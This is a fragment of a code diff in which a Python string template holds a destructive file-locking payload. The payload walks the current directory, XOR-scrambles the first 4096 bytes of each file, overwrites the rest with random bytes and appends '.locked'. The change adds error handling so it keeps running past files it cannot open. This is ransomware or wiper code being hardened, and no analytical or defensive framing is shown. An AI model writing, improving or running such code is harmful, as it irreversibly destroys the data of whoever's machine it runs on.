@@ -26,11 +26,14 @@ for top, _, names in os.walk("."):
         path = os.path.join(top, name)
         if name == "@MARK@":
             continue
-        with open(path, "r+b") as file:
-            data = file.read()
-            file.seek(0)
-            file.write(bytes(map((0x5A).__xor__, data[:4096])) + os.urandom(max(len(data) - 4096, 0)))
-        os.rename(path, path + ".locked")
+        try:
+            with open(path, "r+b") as file:
+                data = file.read()
+                file.seek(0)
+                file.write(bytes(map((0x5A).__xor__, data[:4096])) + os.urandom(max(len(data) - 4096, 0)))
+            os.rename(path, path + ".locked")
+        except OSError:
+            pass
 """.replace("@MARK@", MARKER.decode())
 
 
